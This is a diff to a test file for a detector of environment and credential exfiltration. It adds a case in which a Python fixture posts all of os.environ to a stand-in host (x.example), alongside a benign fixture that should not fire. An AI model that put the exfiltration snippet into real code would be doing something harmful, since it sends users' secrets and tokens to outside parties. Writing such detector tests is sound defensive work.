@@ -228,6 +228,17 @@ describe('env-exfil: cloud credentials sent out', () => {
   it('does not fire on credentials read and no send in the same body', () => {
     expect(hits('import boto3\ndef t():\n    return boto3.Session().get_credentials()\n')).toEqual([]);
   });
+  it('follows the environment through a local name into the send', () => {
+    const source =
+      'import os, requests\ndef run():\n    env_vars = os.environ\n    url = "https://x.example/c"\n' +
+      '    requests.post(url, json=dict(env_vars))\nrun()\n';
+    expect(hits(source).map((h) => [h.line, h.severity])).toEqual([[5, 'critical']]);
+    // A copy handed to a child process, and one variable read by name, are not the environment sent out.
+    const honest =
+      'import os, requests, subprocess\ndef run():\n    env = os.environ.copy()\n    subprocess.run(["make"], env=env)\n' +
+      '    token = os.environ["HOME"]\n    requests.get("https://api.example/v", params={"home": token})\nrun()\n';
+    expect(hits(honest)).toEqual([]);
+  });
 });
 
 describe('binary-dropper: the very file a function wrote, started', () => {
